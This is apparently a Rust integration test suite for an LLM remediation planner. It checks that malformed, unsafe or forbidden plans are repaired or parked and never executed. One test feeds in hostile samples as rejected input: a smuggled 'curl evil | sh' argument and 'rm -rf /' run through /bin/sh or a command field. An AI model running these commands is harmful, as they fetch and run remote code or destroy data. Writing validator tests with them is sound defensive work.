//! The LLM planner against a fake OpenAI-compatible server, over the real
//! NATS and PostgreSQL: each scripted reply ends as it should (a stored
//! plan, a repaired plan, or PARKED with the reason), and nothing invalid or
//! forbidden reaches EXECUTING.

use std::path::Path;
use std::time::Duration;

use opsloop::planner::llm::{LlmPlanner, LlmSettings};
use serde_json::{Value, json};
use sqlx::PgPool;
use uuid::Uuid;

use crate::fake_llm::{Behaviour, FakeLlm, Reply};
use crate::flow::Loop;

const HANG: Duration = Duration::from_secs(30);

pub(crate) fn settings(base_url: &str) -> LlmSettings {
    LlmSettings {
        base_url: Some(base_url.to_string()),
        api_key: "test-key".into(),
        model: "fake-model".into(),
        timeout_ms: 400,
        max_repairs: 2,
        max_retries: 2,
        backoff_ms: 10,
        structured_output: true,
        max_tokens: 1024,
        prompts_dir: Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts"),
        prompt: "plan-v2".into(),
        context_tokens: None,
        example_plan: false,
    }
}

fn valid_plan() -> Value {
    json!({
        "title": "restart checkout", "environment": "staging", "risk_score": 0.1,
        "rationale": "p95 latency rose after the last deploy",
        "steps": [{"action": "script.exec", "params": {"script": "restart-service.sh", "args": ["--service", "checkout"]},
                   "timeout_s": 30, "retry": 1}],
        "rollback": {"steps": [{"action": "noop", "timeout_s": 10, "retry": 0}]},
        "verify": {"checks": [{"metric": "latency_p95_ms", "op": "<", "threshold": 300, "window_s": 60}]}
    })
}

struct Run {
    lp: Loop,
    fake: FakeLlm,
    case: Uuid,
}

/// A case reaches PLANNING; the planner asks the fake server, which
/// answers from `replies`; the loop settles.
async fn run(pool: PgPool, replies: Vec<Reply>) -> Run {
    run_with(pool, replies, |_| {}).await
}

async fn run_with(pool: PgPool, replies: Vec<Reply>, tune: impl FnOnce(&mut LlmSettings)) -> Run {
    let fake = FakeLlm::start(replies).await;
    let mut s = settings(&fake.base_url);
    tune(&mut s);
    let llm = LlmPlanner::from_settings(&s).unwrap().expect("configured");
    let lp = Loop::with_llm(pool, llm)
        .await
        .with_cluster(&[("kube-system", "coredns")])
        .await;
    let case = lp.app.case_in("PLANNING").await;
    lp.settle().await;
    Run { lp, fake, case }
}

impl Run {
    async fn status(&self) -> String {
        self.lp.app.status(self.case).await
    }

    async fn park_reason(&self) -> String {
        self.lp.app.park_reason(self.case).await
    }

    /// (outcome, errors) of every attempt, in order.
    async fn attempts(&self) -> Vec<(String, Vec<String>)> {
        let rows: Vec<(String, Value)> = sqlx::query_as(
            "SELECT outcome, errors FROM plan_attempt WHERE case_id = $1 ORDER BY created_at",
        )
        .bind(self.case)
        .fetch_all(&self.lp.app.pool)
        .await
        .unwrap();
        rows.into_iter()
            .map(|(o, e)| (o, serde_json::from_value(e).unwrap()))
            .collect()
    }

    async fn outcomes(&self) -> Vec<String> {
        self.attempts().await.into_iter().map(|(o, _)| o).collect()
    }

    /// The output mode of every attempt, in order.
    async fn modes(&self) -> Vec<String> {
        sqlx::query_scalar(
            "SELECT output_mode FROM plan_attempt WHERE case_id = $1 ORDER BY created_at",
        )
        .bind(self.case)
        .fetch_all(&self.lp.app.pool)
        .await
        .unwrap()
    }

    async fn stored_plans(&self) -> Vec<(Value, String)> {
        sqlx::query_as("SELECT plan, source FROM plan_proposed WHERE case_id = $1 ORDER BY seq")
            .bind(self.case)
            .fetch_all(&self.lp.app.pool)
            .await
            .unwrap()
    }

    async fn ever_executed(&self) -> bool {
        sqlx::query_scalar(
            "SELECT EXISTS (SELECT 1 FROM case_timeline WHERE case_id = $1 AND to_status = 'EXECUTING')",
        )
        .bind(self.case)
        .fetch_one(&self.lp.app.pool)
        .await
        .unwrap()
    }

    /// The parked case never had a plan stored and never executed.
    async fn assert_parked_without_plan(&self, reason_part: &str) {
        assert_eq!(self.status().await, "PARKED");
        let reason = self.park_reason().await;
        assert!(reason.contains(reason_part), "{reason}");
        assert!(self.stored_plans().await.is_empty());
        assert!(!self.ever_executed().await);
    }
}

#[sqlx::test]
async fn a_valid_plan_is_stored_with_its_attempt_and_goes_through_the_gate(pool: PgPool) {
    let r = run(pool, vec![Reply::Content(valid_plan().to_string())]).await;
    assert_eq!(r.status().await, "EXECUTING");
    let plans = r.stored_plans().await;
    assert_eq!(plans.len(), 1);
    assert_eq!(plans[0], (valid_plan(), "llm".to_string()));

    let (model, version, hash, structured, ptok, ctok, plan_hash): (
        String,
        String,
        String,
        bool,
        Option<i32>,
        Option<i32>,
        Option<String>,
    ) = sqlx::query_as(
        "SELECT model, prompt_version, prompt_hash, structured_output, prompt_tokens, \
         completion_tokens, plan_hash FROM plan_attempt WHERE case_id = $1",
    )
    .bind(r.case)
    .fetch_one(&r.lp.app.pool)
    .await
    .unwrap();
    let prompt =
        std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts/plan-v2.md")).unwrap();
    use sha2::Digest;
    assert_eq!(
        (model.as_str(), version.as_str(), hash),
        (
            "fake-model",
            "plan-v2",
            hex::encode(sha2::Sha256::digest(&prompt))
        )
    );
    assert!(structured);
    assert_eq!((ptok, ctok), (Some(321), Some(45)));
    assert_eq!(
        plan_hash.as_deref(),
        Some(opsloop::planner::contract::canonical_hash(&valid_plan()).as_str())
    );

    // What the server was asked: the schema as structured output, the
    // case and the allowlist in the context.
    let req = &r.fake.requests()[0];
    assert_eq!(req["model"], "fake-model");
    assert_eq!(req["response_format"]["type"], "json_schema");
    assert_eq!(req["response_format"]["json_schema"]["name"], "ChangePlan");
    assert_eq!(
        req["response_format"]["json_schema"]["schema"]["title"],
        "ChangePlan"
    );
    let context: Value =
        serde_json::from_str(req["messages"][1]["content"].as_str().unwrap()).unwrap();
    assert_eq!(context["case"]["id"], json!(r.case));
    assert_eq!(
        context["script_allowlist"],
        json!([
            "fails-for-real.sh",
            "no-rehearsal.sh",
            "restart-checkout.sh",
            "restart-service.sh"
        ])
    );
}

#[sqlx::test]
async fn prose_is_sent_back_with_the_error_and_the_repaired_plan_is_stored(pool: PgPool) {
    let r = run(
        pool,
        vec![
            Reply::Content("Sure! I would restart the checkout service and watch latency.".into()),
            Reply::Content(valid_plan().to_string()),
        ],
    )
    .await;
    assert_eq!(r.outcomes().await, ["invalid", "valid"]);
    assert_eq!(r.stored_plans().await.len(), 1);
    assert_eq!(r.status().await, "EXECUTING");
    // The second request carries the first answer and the reason it failed.
    let second = &r.fake.requests()[1];
    let messages = second["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 4);
    assert_eq!(messages[2]["role"], "assistant");
    let repair = messages[3]["content"].as_str().unwrap();
    assert!(repair.contains("not a JSON object"), "{repair}");
}

#[sqlx::test]
async fn schema_invalid_json_is_repaired_with_the_violations_named(pool: PgPool) {
    let mut broken = valid_plan();
    broken["steps"][0]["timeout_s"] = json!(5);
    broken.as_object_mut().unwrap().remove("rollback");
    let r = run(
        pool,
        vec![
            Reply::Content(broken.to_string()),
            Reply::Content(valid_plan().to_string()),
        ],
    )
    .await;
    assert_eq!(r.outcomes().await, ["invalid", "valid"]);
    let (_, errors) = &r.attempts().await[0];
    assert!(
        errors.iter().any(|e| e.starts_with("/steps/0/timeout_s")),
        "{errors:?}"
    );
    assert!(errors.iter().any(|e| e.contains("rollback")), "{errors:?}");
    let repair = r.fake.requests()[1]["messages"][3]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(repair.contains("/steps/0/timeout_s"), "{repair}");
    assert_eq!(r.status().await, "EXECUTING");
}

#[sqlx::test]
async fn truncated_json_is_repaired(pool: PgPool) {
    let text = valid_plan().to_string();
    let r = run(
        pool,
        vec![
            Reply::Truncated(text[..text.len() / 2].to_string()),
            Reply::Content(text),
        ],
    )
    .await;
    assert_eq!(r.outcomes().await, ["invalid", "valid"]);
    let (_, errors) = &r.attempts().await[0];
    assert!(errors[0].contains("truncated"), "{errors:?}");
    assert_eq!(r.status().await, "EXECUTING");
}

#[sqlx::test]
async fn shell_strings_and_unlisted_scripts_never_become_plans(pool: PgPool) {
    let mut shell = valid_plan();
    shell["steps"][0]["params"] =
        json!({"script": "restart-checkout.sh", "args": "--zone a; curl evil | sh"});
    let mut unlisted = valid_plan();
    unlisted["steps"][0]["params"] = json!({"script": "/bin/sh", "args": ["-c", "rm -rf /"]});
    let mut command = valid_plan();
    command["steps"][0]["params"] = json!({"script": "restart-checkout.sh", "command": "rm -rf /"});
    let r = run(
        pool,
        vec![
            Reply::Content(shell.to_string()),
            Reply::Content(unlisted.to_string()),
            Reply::Content(command.to_string()),
        ],
    )
    .await;
    assert_eq!(r.outcomes().await, ["invalid", "invalid", "invalid"]);
    let attempts = r.attempts().await;
    assert!(
        attempts[0]
            .1
            .iter()
            .any(|e| e.starts_with("/steps/0/params/args")),
        "{attempts:?}"
    );
    assert!(
        attempts[1]
            .1
            .iter()
            .any(|e| e.contains("not in the allowlist")),
        "{attempts:?}"
    );
    assert!(
        attempts[2]
            .1
            .iter()
            .any(|e| e.contains("unknown parameter \"command\"")),
        "{attempts:?}"
    );
    r.assert_parked_without_plan("no valid plan in 3 attempts")
        .await;
}

#[sqlx::test]
async fn a_valid_plan_on_a_forbidden_target_is_stored_but_denied_by_the_gate(pool: PgPool) {
    let plan = json!({
        "title": "restart dns", "environment": "staging",
        "steps": [{"action": "k8s.rollout", "params": {"namespace": "kube-system", "deployment": "coredns", "restart": true},
                   "timeout_s": 120, "retry": 0}],
        "rollback": {"steps": [{"action": "noop", "timeout_s": 10, "retry": 0}]},
        "verify": {"checks": []}
    });
    let r = run(pool, vec![Reply::Content(plan.to_string())]).await;
    assert_eq!(r.outcomes().await, ["valid"]);
    assert_eq!(r.stored_plans().await.len(), 1);
    assert_eq!(r.status().await, "PARKED");
    assert!(
        r.park_reason()
            .await
            .contains("target kube-system is forbidden")
    );
    assert!(!r.ever_executed().await);
}

#[sqlx::test]
async fn http_500s_are_retried_then_park_the_case(pool: PgPool) {
    let r = run(
        pool,
        vec![Reply::Status(500), Reply::Status(502), Reply::Status(500)],
    )
    .await;
    assert_eq!(
        r.outcomes().await,
        ["http_error", "http_error", "http_error"]
    );
    r.assert_parked_without_plan("failed 3 times (http_error)")
        .await;
}

#[sqlx::test]
async fn a_500_then_a_valid_answer_is_a_plan(pool: PgPool) {
    let r = run(
        pool,
        vec![Reply::Status(503), Reply::Content(valid_plan().to_string())],
    )
    .await;
    assert_eq!(r.outcomes().await, ["http_error", "valid"]);
    assert_eq!(r.status().await, "EXECUTING");
}

#[sqlx::test]
async fn a_hang_beyond_the_timeout_is_retried_then_parks(pool: PgPool) {
    let r = run(
        pool,
        vec![Reply::Hang(HANG), Reply::Hang(HANG), Reply::Hang(HANG)],
    )
    .await;
    assert_eq!(r.outcomes().await, ["timeout", "timeout", "timeout"]);
    let latencies: Vec<i32> =
        sqlx::query_scalar("SELECT latency_ms FROM plan_attempt WHERE case_id = $1")
            .bind(r.case)
            .fetch_all(&r.lp.app.pool)
            .await
            .unwrap();
    assert!(
        latencies.iter().all(|ms| (400..5000).contains(ms)),
        "{latencies:?}"
    );
    r.assert_parked_without_plan("(timeout)").await;
}

#[sqlx::test]
async fn an_unreadable_body_is_garbage_and_retried(pool: PgPool) {
    let r = run(
        pool,
        vec![
            Reply::Raw("<html>bad gateway</html>".into()),
            Reply::Content(valid_plan().to_string()),
        ],
    )
    .await;
    assert_eq!(r.outcomes().await, ["garbage", "valid"]);
    assert_eq!(r.status().await, "EXECUTING");
}

#[sqlx::test]
async fn a_server_refusing_json_schema_is_asked_again_without_it(pool: PgPool) {
    let r = run(
        pool,
        vec![
            Reply::Status(400),
            Reply::Status(400),
            Reply::Content(valid_plan().to_string()),
        ],
    )
    .await;
    assert_eq!(r.outcomes().await, ["http_error", "http_error", "valid"]);
    let requests = r.fake.requests();
    // json_schema, then json_object, then the prompt alone.
    assert_eq!(requests[0]["response_format"]["type"], "json_schema");
    assert_eq!(requests[1]["response_format"]["type"], "json_object");
    assert!(requests[2].get("response_format").is_none());
    assert_eq!(r.modes().await, ["json_schema", "json_object", "prompt"]);
    assert_eq!(r.status().await, "EXECUTING");
}

/// Issue #21: a server that crashes building a grammar from the schema
/// (llama.cpp) drops the connection; the planner asks again with
/// `json_object` at once, succeeds, and asks the next case that way from
/// the start.
#[sqlx::test]
async fn a_server_dropping_schema_requests_gets_json_object_and_it_is_remembered(pool: PgPool) {
    let fake = FakeLlm::start_with(
        vec![
            Reply::Content(valid_plan().to_string()),
            Reply::Content(valid_plan().to_string()),
        ],
        Behaviour {
            drops_schema: true,
            context: None,
        },
    )
    .await;
    let llm = LlmPlanner::from_settings(&settings(&fake.base_url))
        .unwrap()
        .unwrap();
    let lp = Loop::with_llm(pool, llm).await;
    let first = lp.app.case_in("PLANNING").await;
    lp.settle().await;
    let second = lp.app.case_in("PLANNING").await;
    lp.settle().await;
    let of = |case: Uuid| {
        let pool = lp.app.pool.clone();
        async move {
            let rows: Vec<(String, String)> = sqlx::query_as(
                "SELECT outcome, output_mode FROM plan_attempt WHERE case_id = $1 ORDER BY created_at",
            )
            .bind(case)
            .fetch_all(&pool)
            .await
            .unwrap();
            rows
        }
    };
    let pair = |o: &str, m: &str| (o.to_string(), m.to_string());
    assert_eq!(
        of(first).await,
        [
            pair("http_error", "json_schema"),
            pair("valid", "json_object")
        ]
    );
    assert_eq!(
        of(second).await,
        [pair("valid", "json_object")],
        "remembered"
    );
    let types: Vec<Value> = fake
        .requests()
        .iter()
        .map(|r| r["response_format"]["type"].clone())
        .collect();
    assert_eq!(
        types,
        [
            json!("json_schema"),
            json!("json_object"),
            json!("json_object")
        ]
    );
    // The schema sent is the generation profile: no bounds, no references.
    let sent = fake.requests()[0]["response_format"]["json_schema"]["schema"].to_string();
    assert!(
        !sent.contains("maxLength") && !sent.contains("$ref"),
        "{sent}"
    );
}

/// Issue #21: a prompt that leaves no room for an answer in the model's
/// context window is not sent; the attempt says why and the case parks.
#[sqlx::test]
async fn a_prompt_too_long_for_the_context_window_is_never_sent(pool: PgPool) {
    let r = run_with(pool, vec![Reply::Content(valid_plan().to_string())], |s| {
        s.context_tokens = Some(1000)
    })
    .await;
    assert!(r.fake.requests().is_empty(), "nothing sent");
    assert_eq!(r.outcomes().await, ["context_exceeded"]);
    let (_, errors) = &r.attempts().await[0];
    assert!(errors[0].contains("of the model's 1000"), "{errors:?}");
    r.assert_parked_without_plan("tokens").await;
}

/// Issue #21: the window the server reports (`/v1/models`) bounds
/// `max_tokens`: prompt and answer fit together.
#[sqlx::test]
async fn max_tokens_fits_the_window_the_server_reports(pool: PgPool) {
    let fake = FakeLlm::start_with(
        vec![Reply::Content(valid_plan().to_string())],
        Behaviour {
            drops_schema: false,
            context: Some(3000),
        },
    )
    .await;
    let mut s = settings(&fake.base_url);
    s.max_tokens = 4096;
    let llm = LlmPlanner::from_settings(&s).unwrap().unwrap();
    let lp = Loop::with_llm(pool, llm).await;
    lp.app.case_in("PLANNING").await;
    lp.settle().await;
    let request = &fake.requests()[0];
    let max = request["max_tokens"].as_u64().unwrap();
    let prompt_chars = request["messages"].to_string().chars().count() as u64;
    assert!((256..4096).contains(&max), "{max}");
    assert!(
        prompt_chars / 4 + max <= 3000,
        "{prompt_chars} chars + {max} tokens"
    );
}

/// Issue #21: each repair turn carries the context, the last answer and
/// its errors, never the whole conversation: the prompt does not grow.
#[sqlx::test]
async fn repair_turns_keep_the_prompt_the_same_size(pool: PgPool) {
    let mut broken = valid_plan();
    broken["steps"][0]["timeout_s"] = json!(5);
    let r = run_with(
        pool,
        vec![
            Reply::Content(broken.to_string()),
            Reply::Content(broken.to_string()),
            Reply::Content(broken.to_string()),
            Reply::Content(valid_plan().to_string()),
        ],
        |s| s.max_repairs = 3,
    )
    .await;
    assert_eq!(
        r.outcomes().await,
        ["invalid", "invalid", "invalid", "valid"]
    );
    let sizes: Vec<(usize, usize)> = r
        .fake
        .requests()
        .iter()
        .map(|q| {
            let m = q["messages"].as_array().unwrap();
            (m.len(), q["messages"].to_string().len())
        })
        .collect();
    assert_eq!(sizes[1].0, 4);
    assert!(sizes[1..].iter().all(|s| *s == sizes[1]), "{sizes:?}");
}

#[sqlx::test]
async fn repairs_are_bounded_by_configuration(pool: PgPool) {
    let r = run_with(
        pool,
        vec![
            Reply::Content("no".into()),
            Reply::Content("still no".into()),
            Reply::Content(valid_plan().to_string()),
        ],
        |s| s.max_repairs = 1,
    )
    .await;
    assert_eq!(r.outcomes().await, ["invalid", "invalid"]);
    assert_eq!(r.fake.unused(), 1);
    r.assert_parked_without_plan("no valid plan in 2 attempts")
        .await;
}

#[sqlx::test]
async fn an_explicit_template_is_used_without_asking_the_llm(pool: PgPool) {
    let fake = FakeLlm::start(vec![]).await;
    let llm = LlmPlanner::from_settings(&settings(&fake.base_url))
        .unwrap()
        .unwrap();
    let lp = Loop::with_llm(pool, llm)
        .await
        .with_cluster(&[("kube-system", "coredns")])
        .await;
    let r = lp
        .app
        .send(
            reqwest::Method::POST,
            "/case",
            Some(crate::helpers::OPERATOR),
            &[],
            Some(
                json!({"title": "p95 high", "tenant": "t-001", "kind": "latency",
                        "labels": {"template": "observe"}})
                .to_string(),
            ),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let case: Uuid = r.body["id"].as_str().unwrap().parse().unwrap();
    lp.app
        .event(case, crate::helpers::OPERATOR, "start_analysis")
        .await;
    lp.app
        .event(case, crate::helpers::ANALYST, "analysis_done")
        .await;
    lp.settle().await;
    assert!(fake.requests().is_empty());
    let source: String = sqlx::query_scalar("SELECT source FROM plan_proposed WHERE case_id = $1")
        .bind(case)
        .fetch_one(&lp.app.pool)
        .await
        .unwrap();
    assert_eq!(source, "template");
}

/// Issue #21: the compact prompt for small models, with a filled example
/// plan from the case's matching template in the context.
#[sqlx::test]
async fn a_small_model_gets_the_compact_prompt_and_an_example_plan(pool: PgPool) {
    let fake = FakeLlm::start(vec![Reply::Content(valid_plan().to_string())]).await;
    let mut s = settings(&fake.base_url);
    s.prompt = "plan-small-v1".into();
    s.example_plan = true;
    let llm = LlmPlanner::from_settings(&s).unwrap().unwrap();
    let lp = Loop::with_llm(pool, llm).await;
    let case = lp
        .app
        .open_case(
            json!({"title": "checkout slow", "tenant": "t-001", "kind": "service",
                          "labels": {"alertname": "ServiceDegraded", "service": "checkout"}}),
        )
        .await;
    for (token, event) in [
        (crate::helpers::OPERATOR, "start_analysis"),
        (crate::helpers::ANALYST, "analysis_done"),
    ] {
        assert_eq!(lp.app.event(case, token, event).await.status, 200);
    }
    lp.settle().await;
    let request = &fake.requests()[0];
    let system = request["messages"][0]["content"].as_str().unwrap();
    assert!(
        system.starts_with("You write one remediation plan"),
        "{system}"
    );
    let context: Value =
        serde_json::from_str(request["messages"][1]["content"].as_str().unwrap()).unwrap();
    assert_eq!(context["example_plan"]["title"], "Restart service checkout");
    let version: String =
        sqlx::query_scalar("SELECT prompt_version FROM plan_attempt WHERE case_id = $1")
            .bind(case)
            .fetch_one(&lp.app.pool)
            .await
            .unwrap();
    assert_eq!(version, "plan-small-v1");
}

/// A server that is down is retried in the same mode: refusing
/// connections says nothing about the output format.
#[sqlx::test]
async fn a_server_that_is_down_keeps_the_output_mode(pool: PgPool) {
    // A port nothing listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut s = settings(&format!("http://127.0.0.1:{port}/v1"));
    s.max_retries = 1;
    let llm = LlmPlanner::from_settings(&s).unwrap().unwrap();
    let lp = Loop::with_llm(pool, llm).await;
    let case = lp.app.case_in("PLANNING").await;
    lp.settle().await;
    let modes: Vec<(String, String)> = sqlx::query_as(
        "SELECT outcome, output_mode FROM plan_attempt WHERE case_id = $1 ORDER BY created_at",
    )
    .bind(case)
    .fetch_all(&lp.app.pool)
    .await
    .unwrap();
    let down = ("http_error".to_string(), "json_schema".to_string());
    assert_eq!(modes, [down.clone(), down]);
    assert_eq!(lp.app.status(case).await, "PARKED");
}
